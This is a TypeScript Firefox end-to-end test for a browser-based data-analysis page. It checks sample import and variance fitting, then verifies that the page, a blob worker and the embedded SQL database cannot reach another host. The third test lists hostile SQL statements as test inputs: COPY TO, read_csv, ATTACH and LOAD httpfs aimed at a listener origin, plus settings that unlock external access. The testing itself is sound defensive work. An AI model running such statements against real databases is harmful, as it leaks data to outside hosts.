/**
 * The page in Firefox: import, fit and the three locks, on the built page.
 *   npm run test:firefox        FIREFOX_PATH names another Firefox
 */
import { join } from 'node:path';
import {
  attemptFromPage,
  pageAttempts,
  runWorker,
  workerAttempts,
  workerScript,
} from '../e2e/attempts.ts';
import type {} from '../../src/state/automation.ts';
import { listenForVisits, serveFolder } from '../tooling/static-server.mjs';
import { findFirefox, startFirefox } from './bidi.ts';

const path = findFirefox();
if (!path) {
  console.error('No Firefox found; install one, or name it in FIREFOX_PATH.');
  process.exit(1);
}
const dist = join(import.meta.dirname, '..', '..', 'dist');
const withoutPolicy = (text: string) =>
  text.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
const site = await serveFolder(dist);
const open = await serveFolder(dist, { rewrite: withoutPolicy });
const stranger = await listenForVisits();
const page = await startFirefox(path);
let failed = 0;

async function test(name: string, task: () => Promise<void>): Promise<void> {
  stranger.visits.length = 0;
  try {
    await task();
    console.log(`✓ ${name}`);
  } catch (error) {
    failed += 1;
    console.log(`✗ ${name}\n  ${error instanceof Error ? error.message : String(error)}`);
  }
}

const unvisited = () => {
  if (stranger.visits.length > 0) throw new Error(`visits: ${stranger.visits.join(', ')}`);
};
const says = (selector: string, text: string) =>
  page.until(
    (selector, text) => document.querySelector(selector)?.textContent?.includes(text),
    selector,
    text,
  );
const press = (name: string) =>
  page.run((name) => {
    const found = [...document.querySelectorAll<HTMLElement>('button, nav a')].find((element) =>
      element.textContent?.includes(name),
    );
    if (!found) throw new Error(`no button or link: ${name}`);
    found.click();
  }, name);
/** Paths of the attempts that arrived. */
const arrived = () => stranger.visits.flatMap((visit) => /^\w+ \/([\w-]+)/.exec(visit)?.[1] ?? []);
const expectAll = (names: readonly string[]) => {
  const lacking = names.filter((name) => !arrived().includes(name));
  if (lacking.length > 0)
    throw new Error(`did not arrive without the policy: ${lacking.join(', ')}`);
};

await test('the sample study is imported and sliced', async () => {
  await page.open(site.url);
  await page.until(() => document.querySelector('[aria-label="Drop zone"]'));
  await press('Classroom talk');
  await says('main .answer', '0.94');
  await says('main', 'Mira-32B');
  unvisited();
});

await test('its variance is fitted', async () => {
  await press('Variance');
  await says('main .answer', '%');
  await says('main', 'Components');
  unvisited();
});

await test('first lock: no way out of the page reaches another host', async () => {
  await page.open(site.url);
  await page.run(attemptFromPage, stranger.origin);
  unvisited();
});

await test('second lock: no way out of a worker from a blob reaches another host', async () => {
  await page.run(runWorker, { script: workerScript(stranger.origin) });
  unvisited();
});

await test('third lock: hostile statements are refused without the policy, and reach no other host', async () => {
  await page.open(`${open.url}?automation`);
  await page.until(() => 'declination' in window);
  const done = await page.run(
    async (statements) => {
      const succeeded: string[] = [];
      for (const sql of statements)
        if ((await window.declination!.query(sql)).ok) succeeded.push(sql);
      return succeeded;
    },
    [
      `SELECT * FROM read_csv('${stranger.origin}/read.csv')`,
      `SELECT * FROM read_text('${stranger.origin}/text.csv')`,
      `COPY (SELECT 42 AS score) TO '${stranger.origin}/copy.csv'`,
      `ATTACH '${stranger.origin}/attach.db' AS away`,
      'LOAD httpfs',
      'SET enable_external_access=true',
      'SET lock_configuration=false',
    ],
  );
  if (done.length > 0) throw new Error(`ran: ${done.join('; ')}`);
  const answered = await page.run(async () => (await window.declination!.query('SELECT 1')).ok);
  if (!answered) throw new Error('the database answers nothing');
  unvisited();
});

await test('control: without the policy the ways out of page and worker do arrive', async () => {
  await page.open(open.url);
  await page.run(attemptFromPage, stranger.origin);
  expectAll(pageAttempts);
  await page.run(runWorker, { script: workerScript(stranger.origin) });
  expectAll(workerAttempts);
});

await page.close();
await Promise.all([site.close(), open.close(), stranger.close()]);
console.log(failed === 0 ? 'All passed.' : `${failed} failed.`);
process.exit(failed === 0 ? 0 : 1);
